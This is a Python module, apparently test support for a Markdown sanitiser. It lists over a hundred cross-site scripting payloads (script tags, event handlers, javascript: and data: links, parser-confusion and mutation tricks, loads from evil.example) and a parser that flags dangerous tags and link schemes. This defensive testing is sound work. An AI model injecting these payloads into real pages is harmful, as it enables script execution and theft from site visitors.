"""How script gets into a page through Markdown: the usual attacks, and what a page must not hold."""

from __future__ import annotations

import re
from html.parser import HTMLParser

ATTACKS = (
    # elements that run, load or redirect
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<script>alert(1)",
    "<style>@import'//evil.example'</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    '<iframe src="javascript:alert(1)"></iframe>',
    "<iframe srcdoc='&lt;script>alert(1)&lt;/script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:alert(1)><button>go</button></form>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    # handlers and styles on harmless elements
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x`" onerror=alert(1)>',
    "<img src=x\nonerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<b onmouseover=alert(1)>x</b>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<a onclick=alert(1)>x</a>",
    "<p\x0conclick=alert(1)>x</p>",
    # HTML's own links
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=jAvAsCrIpT:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<img src=javascript:alert(1)>",
    # Markdown's links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](<java\tscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](javascript:alert(1) 'title')",
    "![x](javascript:alert(1))",
    "![x](data:text/html,<script>alert(1)</script>)",
    '![x"onerror="alert(1)](x)',
    '![x](x"onerror="alert(1))',
    '[x](https://a.example "<script>alert(1)</script>")',
    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]:javascript:alert(1)",
    "[x][1]\n\n[1]:\n  javascript:alert(1)",
    "[x][1]\n\n> [1]: <javascript:alert(1)>",
    "[javascript:alert(1)]\n\n[javascript:alert(1)]: data:text/html,1",
    "<javascript:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,x>",
    # where renderers disagree about code, comments and tags
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<scr<!-- -->ipt>alert(1)</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php echo '<img src=x onerror=alert(1)>' ?>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "`a\n\n<img src=x onerror=alert(1)>`",
    "\\`<img src=x onerror=alert(1)>\\`",
    "``<img src=x onerror=alert(1)>`",
    '<a title="`"><img src=x onerror=alert(1)>`',
    "<a title='`'>`<img src=x onerror=alert(1)>",
    "| `a | <img src=x onerror=alert(1)>` |\n|---|---|\n| x | y |",
    "| a | b |\n|---|---|\n| `x | <img src=x onerror=alert(1)>` |",
    "```\n<img src=x onerror=alert(1)>",
    "> ```\n<img src=x onerror=alert(1)>",
    "- ```\n\n<img src=x onerror=alert(1)>",
    "```\nx\n``` <img src=x onerror=alert(1)>\n\n<img src=x onerror=alert(1)>",
    "    <img src=x onerror=alert(1)>",
    "- a\n\n        <img src=x onerror=alert(1)>",
    "\\<script>alert(1)\\</script>",
    "# <img src=x onerror=alert(1)>",
    "> <img src=x onerror=alert(1)>",
    "**<img src=x onerror=alert(1)>**",
    "<div>\n`<img src=x onerror=alert(1)>`\n</div>",
    "<pre>\n```\n<img src=x onerror=alert(1)>\n```\n</pre>",
    "<code>`</code><img src=x onerror=alert(1)>`",
    "[^1]: <img src=x onerror=alert(1)>",
    "$<img src=x onerror=alert(1)>$",
    "<x-custom onclick=alert(1)>x</x-custom>",
    "</script><script>alert(1)</script>",
    "\u2028<script>alert(1)</script>",
    "<script\x00>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
)

_SCHEME = re.compile(r"[\s\x00-\x20]*([a-z][a-z0-9+.-]*):", re.IGNORECASE)
_HARMFUL = frozenset(
    [
        "script",
        "style",
        "iframe",
        "object",
        "embed",
        "base",
        "meta",
        "link",
        "form",
        "input",
        "button",
        "textarea",
        "select",
        "svg",
        "math",
        "noscript",
        "template",
        "xmp",
        "video",
        "audio",
        "source",
        "marquee",
        "isindex",
        "frame",
        "frameset",
        "applet",
        "bgsound",
        "keygen",
        "title",
        "body",
        "head",
        "html",
    ]
)


class Page(HTMLParser):
    """Collects what could run in a page."""

    def __init__(self) -> None:
        super().__init__()
        self.harm: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in _HARMFUL or "-" in tag:
            self.harm.append(tag)
        for name, value in attrs:
            scheme = _SCHEME.match(re.sub(r"[\t\n\r]", "", value or ""))
            if name.startswith("on") or name in {"style", "srcdoc", "formaction", "action"}:
                self.harm.append(f"{tag} {name}")
            if (
                name in {"href", "src"}
                and scheme
                and scheme[1].lower() not in {"http", "https", "mailto", "tel"}
            ):
                self.harm.append(f"{tag} {name}={value}")


def harm(page: str) -> list[str]:
    """Return the elements and attributes of a page that could run script."""
    parser = Page()
    parser.feed(page)
    parser.close()
    return parser.harm
